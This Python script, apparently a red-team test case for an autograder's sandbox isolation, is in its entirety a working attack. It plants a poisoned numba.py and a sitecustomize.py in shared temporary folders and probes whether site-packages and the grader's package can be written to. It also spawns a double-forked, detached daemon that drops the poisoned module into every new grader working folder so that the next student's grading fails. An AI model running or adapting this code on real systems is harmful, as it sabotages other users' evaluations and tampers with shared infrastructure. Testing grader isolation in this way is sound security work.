# ATTACK (machine, runs past the static check): plant_module without `import os`. Writes numba.py and
# sitecustomize.py into the temporary folder, /tmp and the working folder's parent; checks whether the
# packages' folder (sysconfig's purelib) and the grader's package (found from the grading process's cwd,
# or from the sandbox's own command line in /proc/1/cmdline) are writable, with a probe file it removes at
# once; and leaves a daemon (a fresh interpreter started by asyncio, double fork and setsid, at most 40 s)
# that drops numba.py into every new grader working folder (/tmp/autograder-*) as it appears.
# A secure grader: the next submission grades as usual, and nothing is left in the real /tmp.
import asyncio
import pathlib
import sysconfig
import tempfile

P = pathlib.Path
PLANT = "raise ImportError('numba planted by plant_pathlib: the next student\\'s grading breaks')\n"

DAEMON = r'''
import os, sys, time
plant = sys.argv[2]
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
for fd in range(0, 256):
    try:
        os.close(fd)
    except OSError:
        pass
before, started, planted = set(os.listdir("/tmp")), time.time(), 0
while time.time() - started < 40 and (planted == 0 or time.time() - planted < 3):
    for name in set(os.listdir("/tmp")) - before:
        if name.startswith("autograder-"):
            try:
                with open(os.path.join("/tmp", name, "numba.py"), "w") as f:
                    f.write(plant)
                planted = planted or time.time()
            except OSError:
                pass
        before.add(name)
    time.sleep(0.001)
'''


def _probe(folder):
    """Whether a file can be created in folder (the probe is removed at once)."""
    probe = P(folder) / f"gpu-course-attack-probe-{P('/proc/self').resolve().name}.txt"
    try:
        probe.write_text("probe\n")
        probe.unlink()
        return "WRITABLE"
    except OSError as exc:
        return f"not writable ({type(exc).__name__}: {exc.strerror})"


def _grader_packages():
    found = []
    for d in P("/proc").iterdir():
        try:
            if not d.name.isdigit():
                continue
            argv = [x.decode("utf-8", "replace") for x in (d / "cmdline").read_bytes().split(b"\0") if x]
            if any("autograder" in a for a in argv[:4]):
                found.append(str(P(str((d / "cwd").readlink())) / "autograder"))
            found += [a for a in argv if a.endswith("/autograder")]
        except OSError:
            continue
    return sorted(set(found))


def _plant_static():
    for d in sorted({tempfile.gettempdir(), "/tmp", str(P.cwd().parent)}):
        for name in ("numba.py", "sitecustomize.py"):
            try:
                (P(d) / name).write_text(PLANT if name == "numba.py" else "print('sitecustomize planted')\n")
                print(f"ATTACK plant_pathlib: wrote {P(d) / name}", flush=True)
            except OSError as exc:
                print(f"ATTACK plant_pathlib: {d}: {exc}", flush=True)
    purelib = sysconfig.get_paths()["purelib"]
    print(f"ATTACK plant_pathlib: site-packages {purelib}: {_probe(purelib)}", flush=True)
    for pkg in _grader_packages():
        print(f"ATTACK plant_pathlib: grader package {pkg}: {_probe(pkg)}", flush=True)


async def _daemon():
    exe = str(P("/proc/self/exe").resolve())
    proc = await asyncio.create_subprocess_exec(exe, "-c", DAEMON, "gpu-course-attack-daemon", PLANT,
                                                stdin=-3)  # -3: subprocess.DEVNULL
    return await proc.wait()


try:
    _plant_static()
    print(f"ATTACK plant_pathlib: daemon launcher exited {asyncio.run(_daemon())}; done", flush=True)
except Exception as exc:
    print(f"ATTACK plant_pathlib: stopped by {type(exc).__name__}: {exc}", flush=True)
